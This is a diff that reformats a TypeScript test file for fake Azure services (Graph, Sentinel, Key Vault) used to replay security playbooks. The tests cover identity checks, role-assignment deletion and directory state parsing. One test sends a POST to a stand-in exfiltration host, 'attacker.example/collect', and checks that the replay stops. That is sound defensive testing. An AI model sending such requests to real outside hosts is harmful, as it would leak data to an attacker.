@@ -42,7 +42,13 @@ describe("playbook replay fakes", () => {
             ]);
         });
 
-        for (const filter of [`principalId eq ${alice}`, `principalId ne '${alice}'`, `displayName eq 'x'`, `principalId eq 'a' or roleDefinitionId eq 'b'`, `principalId eq 'a' and`]) {
+        for (const filter of [
+            `principalId eq ${alice}`,
+            `principalId ne '${alice}'`,
+            `displayName eq 'x'`,
+            `principalId eq 'a' or roleDefinitionId eq 'b'`,
+            `principalId eq 'a' and`,
+        ]) {
             it(`refuses ${JSON.stringify(filter)}`, () => {
                 expect(parseFilter(filter)).to.equal(undefined);
             });
@@ -76,7 +82,9 @@ describe("playbook replay fakes", () => {
             const user = graph.handle(graphRequest("POST", `https://graph.microsoft.com/v1.0/users/${alice}/revokeSignInSessions`));
             expect(user).to.deep.include({ statusCode: 200 });
             expect(user.body).to.have.property("value", true);
-            const servicePrincipal = graph.handle(graphRequest("POST", "https://graph.microsoft.com/v1.0/users/7d9e8f10-2a3b-4c5d-9e6f-7a8b9c0d1e2f/revokeSignInSessions"));
+            const servicePrincipal = graph.handle(
+                graphRequest("POST", "https://graph.microsoft.com/v1.0/users/7d9e8f10-2a3b-4c5d-9e6f-7a8b9c0d1e2f/revokeSignInSessions"),
+            );
             expect(servicePrincipal.statusCode).to.equal(404);
         });
 
@@ -94,8 +102,15 @@ describe("playbook replay fakes", () => {
 
         it("rejects a request without the playbook's managed identity for Graph with 401", () => {
             const graph = new FakeGraph(directory(), identity);
-            const wrong = [undefined, { type: "Raw", value: "Bearer x" }, { ...graphAuthentication, identity: "/other" }, { ...graphAuthentication, audience: "https://vault.azure.net" }];
-            const answers = wrong.map((authentication) => graph.handle({ method: "DELETE", url: `${assignmentsUrl}/ra-tenant`, headers: {}, authentication }).statusCode);
+            const wrong = [
+                undefined,
+                { type: "Raw", value: "Bearer x" },
+                { ...graphAuthentication, identity: "/other" },
+                { ...graphAuthentication, audience: "https://vault.azure.net" },
+            ];
+            const answers = wrong.map(
+                (authentication) => graph.handle({ method: "DELETE", url: `${assignmentsUrl}/ra-tenant`, headers: {}, authentication }).statusCode,
+            );
             expect(answers).to.deep.equal([401, 401, 401, 401]);
             expect(graph.snapshot().roleAssignments).to.have.length(2);
         });
@@ -105,7 +120,9 @@ describe("playbook replay fakes", () => {
             expect(graph.handle(graphRequest("GET", listUrl(`principalId eq '${alice}'`))).statusCode).to.equal(200);
             const denied = graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`));
             expect(denied.statusCode).to.equal(403);
-            expect(denied.body).to.deep.equal({ error: { code: "Authorization_RequestDenied", message: "Insufficient privileges to complete the operation." } });
+            expect(denied.body).to.deep.equal({
+                error: { code: "Authorization_RequestDenied", message: "Insufficient privileges to complete the operation." },
+            });
             expect(graph.handle(graphRequest("DELETE", `${assignmentsUrl}/ra-tenant`)).statusCode).to.equal(204);
             expect(graph.snapshot().faults).to.deep.equal([]);
         });
@@ -118,13 +135,21 @@ describe("playbook replay fakes", () => {
     });
 
     describe("fake Sentinel connector", () => {
-        const incidentId = "/subscriptions/s/resourceGroups/rg/providers/Microsoft.OperationalInsights/workspaces/w/providers/Microsoft.SecurityInsights/Incidents/1";
+        const incidentId =
+            "/subscriptions/s/resourceGroups/rg/providers/Microsoft.OperationalInsights/workspaces/w/providers/Microsoft.SecurityInsights/Incidents/1";
         const connection = {
             connectionId: "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/connections/azuresentinel",
             id: "/subscriptions/s/providers/Microsoft.Web/locations/westeurope/managedApis/azuresentinel",
             connectionProperties: { authentication: { type: "ManagedServiceIdentity", identity } },
         };
-        const request = (method: string, path: string, body: unknown): ConnectorRequest => ({ connectionName: "azuresentinel", connection, method, path, queries: {}, body });
+        const request = (method: string, path: string, body: unknown): ConnectorRequest => ({
+            connectionName: "azuresentinel",
+            connection,
+            method,
+            path,
+            queries: {},
+            body,
+        });
 
         it("records comments and applies updates as sent", () => {
             const sentinel = new FakeSentinel(incidentId, { status: "New", severity: "Medium" });
@@ -153,7 +178,10 @@ describe("playbook replay fakes", () => {
 
         it("refuses a connection that is not the azuresentinel API with a managed identity", () => {
             const sentinel = new FakeSentinel(incidentId, { status: "New", severity: "Medium" });
-            const withoutIdentity = { ...request("POST", "/Incidents/Comment", { incidentArmId: incidentId, message: "x" }), connection: { ...connection, connectionProperties: {} } };
+            const withoutIdentity = {
+                ...request("POST", "/Incidents/Comment", { incidentArmId: incidentId, message: "x" }),
+                connection: { ...connection, connectionProperties: {} },
+            };
             expect(sentinel.handle(withoutIdentity).statusCode).to.equal(401);
         });
     });
@@ -163,33 +191,59 @@ describe("playbook replay fakes", () => {
         const vaultAuthentication = { type: "ManagedServiceIdentity", identity, audience: "https://vault.azure.net" };
 
         it("returns a secret to the playbook's identity", () => {
-            const response = vault.handle({ method: "GET", url: "https://kv-test.vault.azure.net/secrets/webhook?api-version=7.4", headers: {}, authentication: vaultAuthentication });
+            const response = vault.handle({
+                method: "GET",
+                url: "https://kv-test.vault.azure.net/secrets/webhook?api-version=7.4",
+                headers: {},
+                authentication: vaultAuthentication,
+            });
             expect(response.statusCode).to.equal(200);
             expect(response.body).to.have.property("value", "https://hooks.example/x");
         });
 
         it("needs the vault audience, the api-version and an existing secret", () => {
-            const get = (url: string, authentication: unknown = vaultAuthentication) => vault.handle({ method: "GET", url, headers: {}, authentication }).statusCode;
+            const get = (url: string, authentication: unknown = vaultAuthentication) =>
+                vault.handle({ method: "GET", url, headers: {}, authentication }).statusCode;
             expect(get("https://kv-test.vault.azure.net/secrets/webhook?api-version=7.4", graphAuthentication)).to.equal(401);
             expect(get("https://kv-test.vault.azure.net/secrets/webhook")).to.equal(400);
             expect(get("https://kv-test.vault.azure.net/secrets/other?api-version=7.4")).to.equal(404);
         });
 
         it("stops the replay when the playbook calls a host it does not know", () => {
-            const cloud = new FakeCloud(new FakeGraph(directory(), identity), new FakeSentinel("/x/providers/Microsoft.SecurityInsights/Incidents/1", { status: "New", severity: "Low" }), vault, undefined);
-            expect(() => cloud.send({ method: "POST", url: "https://attacker.example/collect", headers: {} })).to.throw(UnexpectedHostError, /attacker\.example/);
+            const cloud = new FakeCloud(
+                new FakeGraph(directory(), identity),
+                new FakeSentinel("/x/providers/Microsoft.SecurityInsights/Incidents/1", { status: "New", severity: "Low" }),
+                vault,
+                undefined,
+            );
+            expect(() => cloud.send({ method: "POST", url: "https://attacker.example/collect", headers: {} })).to.throw(
+                UnexpectedHostError,
+                /attacker\.example/,
+            );
         });
     });
 
     describe("directory state files", () => {
         it("treats absent lists as empty", () => {
-            expect(parseDirectoryState({ users: [alice] })).to.deep.equal({ roleAssignments: [], users: [alice], servicePrincipals: [], groups: [], faults: [] });
+            expect(parseDirectoryState({ users: [alice] })).to.deep.equal({
+                roleAssignments: [],
+                users: [alice],
+                servicePrincipals: [],
+                groups: [],
+                faults: [],
+            });
         });
 
         it("names what is wrong: an unknown key, a field of an assignment, a fault", () => {
             expect(() => parseDirectoryState({ roleAssignment: [] })).to.throw(DirectoryStateError, /unknown key\(s\) roleAssignment/);
-            expect(() => parseDirectoryState({ roleAssignments: [{ id: "x", principalId: alice, roleDefinitionId: globalAdmin }] })).to.throw(DirectoryStateError, /roleAssignments\[0\]\.directoryScopeId/);
-            expect(() => parseDirectoryState({ faults: [{ method: "DELETE", path: "/x", status: 204, times: 1 }] })).to.throw(DirectoryStateError, /faults\[0\]\.status/);
+            expect(() => parseDirectoryState({ roleAssignments: [{ id: "x", principalId: alice, roleDefinitionId: globalAdmin }] })).to.throw(
+                DirectoryStateError,
+                /roleAssignments\[0\]\.directoryScopeId/,
+            );
+            expect(() => parseDirectoryState({ faults: [{ method: "DELETE", path: "/x", status: 204, times: 1 }] })).to.throw(
+                DirectoryStateError,
+                /faults\[0\]\.status/,
+            );
         });
     });
 });
